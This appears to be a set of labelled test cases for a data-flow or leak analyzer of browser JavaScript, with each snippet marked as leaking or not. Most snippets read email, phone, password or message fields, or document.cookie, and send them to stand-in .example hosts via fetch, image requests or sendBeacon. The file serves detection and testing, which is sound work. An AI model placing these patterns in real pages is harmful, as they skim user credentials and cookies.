//# if-false
// no flow
// why: the branch can never run
if (false) {
  fetch('https://iff0.san2.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
}

//# if-true
// flow: email > ift.san2.example via fetch
if (true) {
  fetch('https://ift.san2.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
}

//# after-return
// no flow
// why: the statement after return is dead
(function () {
  return;
  fetch('https://ret0.san2.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
})();

//# function-hoisted-after-return
// flow: email > hoist.san2.example via fetch
// why: a function declaration after return is hoisted and callable
(function () {
  send(document.querySelector('input[type=email]').value);
  return;
  function send(v) { fetch('https://hoist.san2.example/', { method: 'POST', body: v }); }
})();

//# constant-debug-flag
// no flow
// why: the constant is false
const DEBUG = false;
if (DEBUG) new Image().src = 'https://dbg0.san2.example/?c=' + encodeURIComponent(document.cookie);

//# flag-turned-on
// flow: identifier > dbg.san2.example via image
// why: the variable is set before the test
let debug = false;
debug = true;
if (debug) new Image().src = 'https://dbg.san2.example/?c=' + encodeURIComponent(document.cookie);

//# always-throws
// no flow
// why: throw comes before the request
(function () {
  const tel = document.querySelector('input[type=tel]').value;
  throw new Error('off');
  fetch('https://thr0.san2.example/', { method: 'POST', body: tel });
})();

//# catch-reached
// flow: phone > thr.san2.example via fetch
// why: the try block always throws, the catch sends
try {
  throw new Error(document.querySelector('input[type=tel]').value);
} catch (e) {
  fetch('https://thr.san2.example/', { method: 'POST', body: e.message });
}

//# to-boolean
// no flow
// why: only whether something was typed
const typed = Boolean(document.querySelector('input[type=password]').value);
fetch('https://bool0.san2.example/?typed=' + typed);

//# or-default
// flow: password > or.san2.example via fetch
// why: || hands on the value itself, not a boolean
const val = document.querySelector('input[type=password]').value || 'none';
fetch('https://or.san2.example/', { method: 'POST', body: val });

//# regex-test
// no flow
// why: test gives a validity boolean
const ok = /^[^@]+@[^@]+$/.test(document.querySelector('input[type=email]').value);
fetch('https://re0.san2.example/?ok=' + ok);

//# regex-match
// flow: email > re.san2.example via fetch
// why: match gives the text itself
const hit = document.querySelector('input[type=email]').value.match(/@(.+)$/);
if (hit) fetch('https://re.san2.example/?domain=' + encodeURIComponent(hit[1]));

//# implicit-level
// no flow
// why: the value decides which fixed text is sent, an implicit flow
let level = 'weak';
if (document.querySelector('input[type=password]').value.length > 12) level = 'strong';
fetch('https://impl0.san2.example/?level=' + level);

//# html-escape
// flow: message > esc.san2.example via fetch
// why: escaping changes signs, the text goes on
const safe = document.querySelector('textarea[name=message]').value.replace(/</g, '&lt;');
fetch('https://esc.san2.example/', { method: 'POST', body: safe });

//# unreachable-case
// no flow
// why: the switch is on a constant that matches the other case
switch ('prod') {
  case 'dev':
    fetch('https://sw0.san2.example/', { method: 'POST', body: document.querySelector('textarea[name=message]').value });
    break;
  case 'prod':
    break;
}

//# while-false
// no flow
// why: the body never runs
while (false) {
  navigator.sendBeacon('https://wh0.san2.example/', navigator.userAgent);
}
